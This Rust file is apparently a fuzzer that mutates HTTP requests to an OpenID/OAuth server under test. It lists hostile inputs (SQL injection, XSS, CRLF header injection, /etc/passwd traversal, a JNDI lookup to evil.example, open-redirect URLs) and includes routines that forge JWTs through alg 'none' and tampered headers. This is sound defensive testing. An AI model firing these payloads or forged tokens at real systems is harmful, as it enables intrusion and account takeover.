//! One mutation of a valid request, or several.

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Map, Value, json};

use super::chance::Chance;
use super::valid::{Body, Valid};

/// Values that have broken somebody's server.
const HOSTILE: &[&str] = &[
    "",
    " ",
    "\0",
    "a\0b",
    "\r\nX-Injected: 1",
    "\r\n\r\n<html>",
    "\nSet-Cookie: auth_session=injected",
    "%0d%0aX-Injected:%201",
    "\u{e9}\u{2028}\u{1f600}",
    "\u{202e}\u{2066}gnirts",
    "\u{feff}",
    "\u{10ffff}",
    "e\u{301}\u{301}\u{301}",
    "'",
    "' OR 1=1 --",
    "\"",
    "\\",
    "\\u0000",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\x",
    "%00",
    "%ff",
    "%",
    "%zz",
    "-1",
    "0",
    "1",
    "4294967296",
    "2147483648",
    "9223372036854775807",
    "9223372036854775808",
    "18446744073709551616",
    "99999999999999999999999999999999999999",
    "1e999",
    "-1e999",
    "0x10",
    "NaN",
    "null",
    "true",
    "[]",
    "{}",
    "{\"id_token\":{\"sub\":{\"value\":\"\\u0000\"}}}",
    "{\"userinfo\":{\"email\":{\"values\":[1e308,-0.0,18446744073709551615]}}}",
    "a.b.c",
    "...",
    "eyJhbGciOiJub25lIn0.e30.",
    "http://evil.example/",
    "//evil.example/",
    "/\\evil.example/",
    "javascript:alert(1)",
    "data:text/html,x",
    "http://localhost:3002/callback@evil.example/",
    "http://127.0.0.1:99999/callback",
    "http://[::1",
    "openid openid openid",
    "openid profile email phone address roles offline_access",
    "none",
    "login consent select_account",
    "S256",
    "plain",
    "booking-app",
    "booking-spa",
    "00000000-0000-0000-0000-000000000000",
    "{00000000-0000-0000-0000-000000000000}",
    ";",
    "&",
    "=",
    "#",
    "?",
    "+",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}}",
];

const METHODS: &[&str] = &[
    "GET", "POST", "PUT", "DELETE", "PATCH", "HEAD", "OPTIONS", "TRACE", "X",
];
const KINDS: &[&str] = &[
    "application/json",
    "application/x-www-form-urlencoded",
    "application/x-www-form-urlencoded; charset=utf-16",
    "multipart/form-data; boundary=x",
    "text/plain",
    "*/*",
    ";",
];
const HEADERS: &[&str] = &[
    "cookie",
    "authorization",
    "accept",
    "accept-language",
    "accept-encoding",
    "content-type",
    "content-encoding",
    "expect",
    "forwarded",
    "if-none-match",
    "origin",
    "range",
    "referer",
    "user-agent",
    "x-forwarded-for",
    "x-forwarded-host",
    "x-http-method-override",
    "x-request-id",
    "dpop",
];

/// A mutated request, as bytes.
pub struct Mutated {
    pub bytes: Vec<u8>,
    /// The framing is intact: the server must answer at once.
    pub framed: bool,
    /// A signed token in it was altered: nothing may be granted for it.
    pub forged: bool,
    pub head: bool,
}

/// Changes a request in one to three ways.
pub fn mutate(valid: &Valid, chance: &mut Chance) -> Mutated {
    let mut changed = valid.clone();
    let mut forged = false;
    let mut flips = 0;
    for _ in 0..=chance.below(3) {
        match chance.below(12) {
            0..=5 => parameter(&mut changed, chance),
            6 | 7 => header(&mut changed, chance),
            8 | 9 => forged |= token(&mut changed, chance),
            10 => flips += 1,
            _ => line(&mut changed, chance),
        }
    }
    let mut body = encode_body(&changed.body, chance);
    let mut target = target(&changed);
    for _ in 0..flips {
        flip(&mut body, chance);
        let mut bytes = target.into_bytes();
        // Not the first slash: without it there would be no request target at all.
        let at = 1 + chance.below(bytes.len());
        if let Some(byte) = bytes.get_mut(at) {
            *byte = *chance.pick(b"%&=?/;+~.!0aZ");
        }
        target = String::from_utf8(bytes).unwrap_or_else(|_| "/".to_owned());
    }
    let mut bytes = format!(
        "{} {target} HTTP/1.1\r\nhost: localhost\r\n",
        changed.method
    )
    .into_bytes();
    for (name, value) in &changed.headers {
        bytes.extend_from_slice(name.as_bytes());
        bytes.extend_from_slice(b": ");
        bytes.extend_from_slice(value.as_bytes());
        bytes.extend_from_slice(b"\r\n");
    }
    if !matches!(changed.body, Body::None) {
        bytes.extend_from_slice(format!("content-length: {}\r\n", body.len()).as_bytes());
    }
    bytes.extend_from_slice(b"\r\n");
    bytes.extend_from_slice(&body);
    let mut framed = true;
    // Sometimes the whole message suffers, framing included.
    if chance.once_in(40) {
        framed = false;
        for _ in 0..=chance.below(4) {
            flip(&mut bytes, chance);
        }
    }
    // A raw line end in a header of the request is a header of its own.
    let broken = |value: &String| value.contains(['\r', '\n', '\0']);
    framed &= !changed.headers.iter().any(|(_, value)| broken(value));
    Mutated {
        bytes,
        framed,
        forged,
        head: changed.method == "HEAD",
    }
}

fn parameters(valid: &mut Valid) -> &mut Vec<(String, String)> {
    match &mut valid.body {
        Body::Form(form) => form,
        _ => &mut valid.query,
    }
}

fn parameter(valid: &mut Valid, chance: &mut Chance) {
    if let Body::Json(value) = &mut valid.body {
        json_member(value, chance, 0);
        return;
    }
    let all = parameters(valid);
    if all.is_empty() {
        all.push((hostile(chance), hostile(chance)));
        return;
    }
    let at = chance.below(all.len());
    let other = chance.below(all.len());
    match chance.below(9) {
        0 => drop(all.remove(at)),
        1 => {
            let again = all[at].clone();
            all.push(again);
        }
        2 => {
            let value = all[other].1.clone();
            all[other].1 = std::mem::replace(&mut all[at].1, value);
        }
        3 => {
            let more = hostile(chance);
            all[at].1.push_str(&more);
        }
        4 => {
            let mut bytes = std::mem::take(&mut all[at].1).into_bytes();
            flip(&mut bytes, chance);
            all[at].1 = String::from_utf8_lossy(&bytes).into_owned();
        }
        5 => {
            all[at].1 = chance
                .pick(&["x", "\u{e9}", "9", " "])
                .repeat(1 + chance.below(6000))
        }
        6 => all[at].0 = hostile(chance),
        7 => all.push((hostile(chance), hostile(chance))),
        _ => all[at].1 = hostile(chance),
    }
}

fn hostile(chance: &mut Chance) -> String {
    (*chance.pick(HOSTILE)).to_owned()
}

fn json_member(value: &mut Value, chance: &mut Chance, depth: usize) {
    let deeper = depth < 4 && !chance.once_in(3);
    match value {
        Value::Object(members) if deeper && !members.is_empty() => {
            let at = chance.below(members.len());
            let name = members.keys().nth(at).cloned().unwrap();
            match chance.below(8) {
                0 => drop(members.remove(&name)),
                1 => {
                    let taken = members.remove(&name).unwrap();
                    members.insert(hostile(chance), taken);
                }
                _ => json_member(members.get_mut(&name).unwrap(), chance, depth + 1),
            }
        }
        Value::Array(items) if deeper && !items.is_empty() => {
            let at = chance.below(items.len());
            match chance.below(6) {
                0 => items.clear(),
                1 => *items = vec![items[at].clone(); 1 + chance.below(200)],
                _ => json_member(&mut items[at], chance, depth + 1),
            }
        }
        _ => {
            let replaced = json_value(value, chance);
            *value = replaced;
        }
    }
}

fn json_value(was: &Value, chance: &mut Chance) -> Value {
    match chance.below(12) {
        0 => Value::Null,
        1 => json!(true),
        2 => json!(-1),
        3 => json!(u64::MAX),
        4 => json!(1e308),
        5 => json!([]),
        6 => json!({}),
        7 => json!({ hostile(chance): was }),
        8 => json!([was, was]),
        9 => (0..chance.below(200)).fold(was.clone(), |inner, _| json!([inner])),
        _ => json!(format!(
            "{}{}",
            was.as_str().unwrap_or_default(),
            hostile(chance)
        )),
    }
}

fn header(valid: &mut Valid, chance: &mut Chance) {
    let all = &mut valid.headers;
    let name = (*chance.pick(HEADERS)).to_owned();
    if all.is_empty() || chance.once_in(4) {
        all.push((name, hostile(chance)));
        return;
    }
    let at = chance.below(all.len());
    match chance.below(7) {
        0 => drop(all.remove(at)),
        1 => {
            let again = all[at].clone();
            all.push(again);
        }
        2 => all[at].1 = hostile(chance),
        3 => {
            let more = hostile(chance);
            all[at].1.push_str(&more);
        }
        4 => all[at].1 = "x".repeat(chance.below(9000)),
        5 => {
            let kind = (*chance.pick(KINDS)).to_owned();
            all.retain(|(name, _)| name != "content-type");
            all.push(("content-type".to_owned(), kind));
        }
        _ => all[at].0 = name,
    }
}

fn line(valid: &mut Valid, chance: &mut Chance) {
    match chance.below(3) {
        0 => valid.method = (*chance.pick(METHODS)).to_owned(),
        1 => {
            let more = [
                "/", "//", "/..", "/%2e%2e/", ";a", "%00", "%FF", "%0d%0a", "\u{e9}",
            ];
            valid.path.push_str(*chance.pick(&more));
        }
        _ => {
            let query = valid.query.clone();
            let form = parameters(valid);
            form.extend(query);
        }
    }
}

/// Alters a signed token, wherever the request has one.
fn token(valid: &mut Valid, chance: &mut Chance) -> bool {
    let form = match &mut valid.body {
        Body::Form(form) => form.as_mut_slice(),
        _ => &mut [],
    };
    let places = valid
        .headers
        .iter_mut()
        .chain(valid.query.iter_mut())
        .chain(form);
    let mut found: Vec<&mut String> = places
        .map(|(_, value)| value)
        .filter(|value| value.matches('.').count() == 2 && value.contains("eyJ"))
        .collect();
    if found.is_empty() {
        return false;
    }
    let at = chance.below(found.len());
    let place = &mut *found[at];
    let (before, jwt) = place.split_at(place.find("eyJ").unwrap());
    let altered = forge(jwt, chance);
    let changed = altered != jwt;
    *place = format!("{before}{altered}");
    changed
}

fn forge(jwt: &str, chance: &mut Chance) -> String {
    let parts: Vec<&str> = jwt.split('.').collect();
    let [head, claims, signature] = parts.as_slice() else {
        return "..".to_owned();
    };
    let read = |part: &str| -> Map<String, Value> {
        let bytes = URL_SAFE_NO_PAD.decode(part).unwrap_or_default();
        serde_json::from_slice(&bytes).unwrap_or_default()
    };
    let write = |members: &Map<String, Value>| {
        URL_SAFE_NO_PAD.encode(Value::Object(members.clone()).to_string())
    };
    let (mut header, mut payload) = (read(head), read(claims));
    match chance.below(9) {
        0 => {
            header.insert(
                "alg".into(),
                json!(chance.pick(&["none", "HS256", "ES256", "RS512", ""])),
            );
            return format!("{}.{claims}.{signature}", write(&header));
        }
        1 => {
            header.insert("alg".into(), json!("none"));
            return format!("{}.{claims}.", write(&header));
        }
        2 => {
            let name = *chance.pick(&["kid", "typ", "crit", "jku", "jwk", "x5c", "cty", "zip"]);
            let value = json_value(&json!(hostile(chance)), chance);
            header.insert(name.into(), value);
            return format!("{}.{claims}.{signature}", write(&header));
        }
        3 | 4 => {
            let names = [
                "exp",
                "iat",
                "nbf",
                "sub",
                "aud",
                "iss",
                "jti",
                "scope",
                "client_id",
                "sid",
            ];
            let name = *chance.pick(&names);
            let value = json_value(&json!(i64::MAX), chance);
            payload.insert(name.into(), value);
            return format!("{head}.{}.{signature}", write(&payload));
        }
        5 => return format!("{head}.{claims}.{head}"),
        6 => return format!("{claims}.{head}.{signature}"),
        7 => return format!("{jwt}.{signature}"),
        _ => {}
    }
    let mut bytes = jwt.as_bytes().to_vec();
    let at = chance.below(bytes.len());
    bytes[at] = *chance.pick(b"AbZ09-_.=+/");
    String::from_utf8(bytes).unwrap()
}

fn flip(bytes: &mut [u8], chance: &mut Chance) {
    if bytes.is_empty() {
        return;
    }
    let at = chance.below(bytes.len());
    bytes[at] = chance.byte();
}

fn encode(pairs: &[(String, String)]) -> String {
    url::form_urlencoded::Serializer::new(String::new())
        .extend_pairs(pairs)
        .finish()
}

fn encode_body(body: &Body, chance: &mut Chance) -> Vec<u8> {
    let mut bytes = match body {
        Body::None => return Vec::new(),
        Body::Form(form) => encode(form).into_bytes(),
        Body::Json(value) => value.to_string().into_bytes(),
    };
    if chance.once_in(30) && !bytes.is_empty() {
        bytes.truncate(chance.below(bytes.len()));
    }
    bytes
}

fn target(valid: &Valid) -> String {
    if valid.query.is_empty() {
        valid.path.clone()
    } else {
        format!("{}?{}", valid.path, encode(&valid.query))
    }
}
